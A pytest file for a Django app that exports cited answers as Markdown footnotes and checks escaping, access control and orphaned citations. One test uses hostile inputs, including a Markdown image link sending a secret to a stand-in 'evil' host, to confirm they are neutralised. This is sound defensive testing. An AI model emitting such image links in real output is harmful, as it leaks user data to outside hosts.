"""An answer as Markdown, to be pasted elsewhere: its words, numbered footnotes, and nothing that loads or runs."""

import pytest
from django.test import Client

from answers.copying import as_markdown
from answers.models import Answer, Citation, Conversation
from documents.models import Document
from tests.library import index_text, make_collection, make_user

pytestmark = pytest.mark.django_db

CATS = "Cats purr when they are content. A cat sleeps for twelve to sixteen hours a day."


@pytest.fixture
def cats() -> Document:
    return index_text(make_collection("animals"), "cats.txt", CATS)


def make_answer(text: str, quotes: dict[int, str], name: str = "cats.txt", owner=None, document=None) -> Answer:
    answer = Answer.objects.create(
        conversation=Conversation.objects.create(owner=owner),
        question="Why?",
        text=text,
        status="done",
        mode="generated",
    )
    for number, quote in quotes.items():
        answer.citations.create(
            number=number, quote=quote, document=document, document_name=name, page_number=number + 1,
            start=0, end=len(quote), passage_start=0, passage_end=len(quote),
        )  # fmt: skip
    return answer


def test_marks_become_footnotes_with_document_page_and_quote():
    answer = make_answer(
        "Cats **purr** [1][2].\n\n- They sleep [2].\n", {1: "Cats purr\nwhen content.", 2: "A cat sleeps."}
    )

    assert as_markdown(answer) == (
        "Cats **purr** [^1][^2].\n\n- They sleep [^2].\n\n"
        "[^1]: cats.txt, page 2: “Cats purr when content.”\n"
        "[^2]: cats.txt, page 3: “A cat sleeps.”\n"
    )


def test_numbers_that_cite_nothing_and_those_in_code_stay_as_they_are():
    answer = make_answer("See [7] and `list[1]` and\n\n```\na[1]\n```\n\nbut [1].", {1: "Cats purr."})

    assert as_markdown(answer).startswith("See [7] and `list[1]` and\n\n```\na[1]\n```\n\nbut [^1].\n\n[^1]: ")


def test_nothing_is_loaded_or_run_wherever_it_is_pasted():
    answer = make_answer(
        "![pixel](http://evil/?q=secret) <img src=x> `<b>` 3 < 4 [1]",
        {1: "![a](http://evil) <script> `x` [b](c)"},
        name="<i>![x](y).txt",
    )

    assert as_markdown(answer) == (
        "\\![pixel](http://evil/?q=secret) \\<img src=x> `<b>` 3 < 4 [^1]\n\n"
        "[^1]: \\<i>!\\[x\\](y).txt, page 2: “!\\[a\\](http://evil) \\<script> \\`x\\` \\[b\\](c)”\n"
    )


def test_an_answer_without_sources_is_its_text():
    assert as_markdown(make_answer("The documents do not say.", {})) == "The documents do not say.\n"


def test_the_page_has_it_in_a_field_and_scripts_get_the_bare_text(client: Client):
    alice = make_user()
    client.force_login(alice)
    answer = make_answer("Cats </textarea> purr [1].", {1: "Cats purr."}, owner=alice)
    address = f"/answers/{answer.pk}/copy"

    page, text = client.get(address), client.get(address, headers={"X-Requested-With": "fragment"})

    assert "Cats \\&lt;/textarea&gt; purr [^1]." in page.content.decode()
    assert text.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert text.content.decode() == as_markdown(answer)


def test_nobody_copies_what_is_not_theirs(client: Client):
    answer = make_answer("Secret.", {}, owner=make_user("bob"))
    client.force_login(make_user())

    assert client.get(f"/answers/{answer.pk}/copy").status_code == 404


def test_a_citation_outlives_its_document_here_too(cats: Document):
    answer = make_answer("Cats purr [1].", {1: "Cats purr."}, document=cats)
    Citation.objects.update(document=None)

    assert "[^1]: cats.txt, page 2: “Cats purr.”" in as_markdown(Answer.objects.get(pk=answer.pk))
